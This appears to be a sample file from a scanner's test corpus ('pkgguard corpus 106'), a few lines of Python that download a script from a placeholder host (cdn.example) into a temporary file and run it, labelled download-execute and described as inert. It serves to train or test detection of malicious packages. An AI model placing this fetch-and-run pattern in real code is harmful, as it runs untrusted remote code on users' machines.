# pkgguard corpus 106 (download-execute), modelled on [empirical]; inert, never run.
import runpy
import tempfile
import urllib.request

path = tempfile.mktemp(suffix=".py")
urllib.request.urlretrieve("https://cdn.example/next.py", path)
runpy.run_path(path)
